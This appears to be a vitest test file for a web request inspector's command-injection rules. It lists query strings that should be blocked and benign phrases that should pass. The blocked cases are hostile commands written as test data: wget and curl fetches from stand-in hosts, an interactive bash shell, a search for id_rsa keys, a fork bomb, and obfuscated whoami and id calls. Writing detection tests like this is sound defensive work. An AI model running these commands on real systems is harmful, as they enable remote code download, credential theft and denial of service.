import { describe, expect, it } from 'vitest';
import { createInspector, type InspectRequest } from '../index.js';
import { queryRequest, ruleIds } from '../testing/requests.js';

const inspector = createInspector({ paranoia: 2 });
const query = (v: string): InspectRequest => queryRequest(v);
const rules = (v: string) => ruleIds(inspector, query(v));

describe('cmdi: cmd.exe FOR and IF forms', () => {
  it.each([
    ['cmdi.batch-for', 'for %file in (*.log) do del %file'],
    ['cmdi.batch-if', 'if/i %x%==y del c:\\a'],
    ['cmdi.batch-if', 'if "a b" == "a b" type c:\\boot.ini'],
    ['cmdi.chained-command', '; wget https://dl.example.net/x.sh'],
    ['cmdi.chained-command', '& ping 192.0.2.7'],
    ['cmdi.chained-command', '; chmod +x run.sh'],
    ['cmdi.chained-command', '& nslookup abc.evil.example &'],
    ['cmdi.chained-command', ';dig @192.0.2.1 evil.example'],
    ['cmdi.chained-command', ';find / -name id_rsa'],
    ['cmdi.obfuscated-word', ';wh$()oami'],
    ['cmdi.chained-command', ';time curl https://evil.example/x'],
    ['cmdi.leading-command', 'timeout 5 bash -i'],
    ['cmdi.leading-command', 'python3.11 -c "import os"'],
    ['cmdi.chained-command', '| mysql -u root'],
    ['cmdi.runtime-call', 'Process.spawn("id")'],
    ['cmdi.runtime-call', "subprocess.check_output(['id'])"],
    ['cmdi.runtime-call', 'x = %x(uname -a)'],
    ['cmdi.obfuscated-word', 'c{a,oun}t /etc/hosts'],
    ['cmdi.obfuscated-word', '{,ifconfig}'],
    ['cmdi.obfuscated-word', '{id,}'],
    ['cmdi.function-definition', 'bomb() { bomb | bomb & }; bomb'],
    ['cmdi.chained-command', ';\n.shell id'],
    ['cmdi.obfuscated-word', ';pi<()ng -c 1 x'],
  ])('%s: %s', (id, v) => {
    expect(rules(v)).toContain(id);
  });

  it.each(['/* stdin: */ 0,', '{cat,dog}', '{red,green,blue}', 'values {1,2,3}', 'render() { return a | b }', '100%x(2) scaling', 'My process spawn rate (per min)', "It's time to go; time flies", 'Python 3.10 is great', 'pip install requests', 'Shutdown the server tonight', 'Q&A; cat / dog pics', 'I use nslookup example.com daily', 'ping 192.0.2.7', 'Meet at 5; ping me at 192.0.2.7 if needed', 'Read the docs; see https://example.com', 'I tried wget; curl is nicer', 'for 5% in (most) cases', 'Verify if the total == 5', 'if you want, == means equal'])('passes: %s', (v) => {
    const r = inspector.inspect(query(v));
    expect(r.blocked, JSON.stringify(r.findings)).toBe(false);
  });
});
